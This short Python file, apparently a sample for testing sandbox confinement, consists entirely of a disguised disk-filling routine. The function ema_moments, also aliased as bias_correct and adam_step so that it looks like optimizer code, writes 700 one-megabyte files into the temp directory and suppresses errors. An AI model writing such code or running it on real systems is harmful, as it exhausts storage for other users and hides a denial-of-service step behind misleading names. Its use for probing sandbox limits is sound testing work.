"""The disk is filled, with bytes and with names."""
# finding: attempt
# walls: strict confined

import tempfile

try:
    folder = tempfile.gettempdir()
except OSError:
    folder = "/tmp"


def ema_moments(*args):
    for number in range(700):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * 2**20)
        except OSError:
            continue
    return None


bias_correct = adam_step = ema_moments
